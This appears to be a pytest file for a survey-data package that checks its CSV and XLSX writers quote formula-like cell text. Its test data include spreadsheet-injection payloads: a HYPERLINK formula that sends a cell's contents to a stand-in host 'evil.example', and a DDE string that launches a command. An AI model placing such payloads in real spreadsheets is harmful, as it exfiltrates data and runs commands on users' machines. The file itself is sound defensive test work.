"""No live formula in a response file Frisat writes (issue 11, item 5), and Frisat reads its own
files back as the original text: the CSV and XLSX writers put the leading ``'`` of
:mod:`frisat.cells` before formula-like text; :func:`frisat.io.read_responses` removes it."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

from frisat.cells import FORMULA_START
from frisat.io import read_responses, write_responses

from .helpers import VIVE, random_frame

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Klik her")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+45 12 34 56", "-2+3", "- se bilag", "'=allerede citeret"]


def hostile_frame() -> pd.DataFrame:
    frame = random_frame(len(ATTACKS) + 2, seed=5)
    for i, text in enumerate(ATTACKS):
        frame.loc[i, "regler_kommentar"] = text
        frame.loc[i, "enhed"] = text
    frame.loc[0, "kommune"] = "=1+1"
    return frame


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_round_trips_exactly(tmp_path, fmt):
    frame = hostile_frame()
    path = write_responses(frame, tmp_path / f"svar.{fmt}", VIVE)
    pd.testing.assert_frame_equal(read_responses(path, VIVE).frame, frame)


def test_csv_cells_never_start_a_formula(tmp_path):
    path = write_responses(hostile_frame(), tmp_path / "svar.csv", VIVE)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [c for c in cells if c[:1] in FORMULA_START] == []
    assert "'" + ATTACKS[0] in cells and "'- se bilag" in cells and "''=allerede citeret" in cells


def test_xlsx_cells_are_quoted_text(tmp_path):
    path = write_responses(hostile_frame(), tmp_path / "svar.xlsx", VIVE)
    sheet = openpyxl.load_workbook(path)["Data"]
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert [c.coordinate for c in cells if c.value[:1] in FORMULA_START or c.data_type == "f"] == []
    assert "'" + ATTACKS[1] in {c.value for c in cells}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_templates_and_their_codebook_carry_no_formula(tmp_path, suffix):
    # An instrument's own texts go into the codebook: one that begins with "-" or "=" is quoted too.
    from frisat.core.instrument import parse_instrument
    from frisat.io import write_template

    from .helpers import SMALL_YAML

    hostile = parse_instrument(SMALL_YAML.replace("text: Hvor enig er du i følgende?", 'text: "=HYPERLINK(1)"')
                               .replace("a: Jeg trives", 'a: "- jeg trives"'), source="x.yaml")
    paths = write_template(hostile, tmp_path / f"skabelon{suffix}")
    if suffix == ".csv":
        cells = [cell for path in paths
                 for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
    else:
        book = openpyxl.load_workbook(paths[0])
        cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert [c for c in cells if c[:1] in FORMULA_START] == []
    assert any(c.startswith("'=HYPERLINK(1)") for c in cells) and any("- jeg trives" in c for c in cells)
